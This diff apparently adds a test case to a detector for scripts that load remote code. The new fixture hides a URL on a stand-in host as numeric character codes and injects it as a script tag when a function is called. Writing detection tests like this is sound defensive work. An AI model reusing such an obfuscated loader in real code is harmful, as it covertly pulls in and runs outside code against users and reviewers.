@@ -67,6 +67,13 @@ examine(loadsRemoteScript, {
       says: ['evil.invalid'],
       weight: 'strong',
     },
+    {
+      when: 'the address of a script is letters by their numbers, and a page loads it when a function is called',
+      files: {
+        'index.js': `const table = [104,116,116,112,115,58,47,47,99,100,110,46,115,46,105,110,118,97,108,105,100,47,101,46,106,115]; exports.step = () => { const s = document.createElement('script'); s.src = String.fromCharCode.apply(null, table); document.head.appendChild(s); };`,
+      },
+      weight: 'strong',
+    },
   ],
   silent: [
     {
